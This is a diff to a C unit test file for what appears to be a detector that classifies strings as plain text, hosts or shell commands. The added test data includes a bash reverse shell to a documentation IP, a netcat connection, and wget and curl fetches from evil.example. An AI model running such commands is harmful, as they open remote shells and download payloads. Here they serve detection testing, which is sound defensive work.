@@ -45,12 +45,28 @@ static void hosts(void **state)
     assert_int_equal(judge("evil.example.", connects), JAVA_TEXT_PLAIN);
     assert_int_equal(judge("Evil.example", connects), JAVA_TEXT_PLAIN);
     assert_int_equal(judge("1.5", connects), JAVA_TEXT_PLAIN);
+    assert_int_equal(judge("203.0.113.9:4444", nothing), JAVA_TEXT_HOST);
+    assert_int_equal(judge("evil.example:4444", nothing), JAVA_TEXT_HOST); /* the port says what it is */
+    assert_int_equal(judge("[2001:db8::9]:4444", nothing), JAVA_TEXT_HOST);
+    assert_int_equal(judge("evil.example:0", nothing), JAVA_TEXT_PLAIN);
+    assert_int_equal(judge("evil.example:65536", connects), JAVA_TEXT_PLAIN);
+    assert_int_equal(judge("log4j.level:4444", nothing), JAVA_TEXT_PLAIN);
+    assert_int_equal(judge("[evil]:4444", nothing), JAVA_TEXT_PLAIN);
+    assert_int_equal(judge("12:30", connects), JAVA_TEXT_PLAIN);
+    assert_int_equal(judge("key.name:", connects), JAVA_TEXT_PLAIN);
 }
 
 static void commands(void **state)
 {
-    static const char *const always[] = {"/bin/sh", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "cmd.exe",
-                                         "Runtime.getRuntime().exec('x')", "PowerShell -enc AAAA"};
+    static const char *const always[] = {"/bin/sh",
+                                         "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
+                                         "cmd.exe",
+                                         "Runtime.getRuntime().exec('x')",
+                                         "PowerShell -enc AAAA",
+                                         "nc 203.0.113.9 4444",
+                                         "cd /tmp;wget evil.example/x",
+                                         "/usr/bin/curl evil.example"};
+    static const char *const words[] = {"sync 4.5", "nc", "wget nothing", "curl ", "func 1.2"};
     static const char *const when_it_runs[] = {"touch /tmp/pwned\n", "calc", "whoami", "/tmp/x",
                                                "C:\\x.bat",          "id"};
     static const char *const never[] = {"/", "-c", "/C", "os.name", "win", "", " ", "a", "x ", " x"};
@@ -58,6 +74,8 @@ static void commands(void **state)
     (void)state;
     for (size_t i = 0; i < sizeof always / sizeof always[0]; i++)
         assert_int_equal(judge(always[i], nothing), JAVA_TEXT_COMMAND);
+    for (size_t i = 0; i < sizeof words / sizeof words[0]; i++)
+        assert_int_equal(judge(words[i], nothing), JAVA_TEXT_PLAIN);
     for (size_t i = 0; i < sizeof when_it_runs / sizeof when_it_runs[0]; i++) {
         assert_int_equal(judge(when_it_runs[i], nothing), JAVA_TEXT_PLAIN);
         assert_int_equal(judge(when_it_runs[i], runs), JAVA_TEXT_COMMAND);
